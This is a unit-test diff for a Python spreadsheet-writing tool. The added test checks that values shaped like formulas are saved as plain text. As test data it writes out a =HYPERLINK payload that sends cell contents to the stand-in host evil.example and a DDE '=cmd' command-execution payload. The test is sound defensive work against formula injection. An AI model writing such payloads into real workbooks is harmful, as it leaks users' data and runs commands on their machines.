@@ -84,6 +84,19 @@ def test_writes_keep_formulas_and_are_saved_at_the_end(book: Path) -> None:
     assert ws["D2"].value == "=1+1"  # the formula survived the write
 
 
+def test_a_value_that_looks_like_a_formula_is_written_as_text(book: Path) -> None:
+    """An attacker's sweep: recorded values `=HYPERLINK(...)` and a DDE `=cmd|...` were written into the
+    user's workbook as formulas."""
+    s = Sheets(book.parent)
+    evil = '=HYPERLINK("https://evil.example/?d="&A2,"x")'
+    s.perform("fill_field", {"workbook": "Book.xlsx", "sheet": "Sheet1", "cell": "B2"}, evil)
+    s.perform("fill_field", {"workbook": "Book.xlsx", "sheet": "Sheet1", "cell": "B3"}, "=cmd|' /C calc'!A0")
+    s.close()
+    ws = load_workbook(book)["Sheet1"]
+    assert ws["B2"].value == evil and ws["B2"].data_type == "s"
+    assert ws["B3"].data_type == "s" and ws["D2"].data_type == "f"  # the book's own formula stays one
+
+
 def test_xlsm_and_csv(tmp_path: Path) -> None:
     (tmp_path / "Export.csv").write_text('a,b\n1,"x, y"\n', encoding="utf-8")
     s = Sheets(tmp_path)
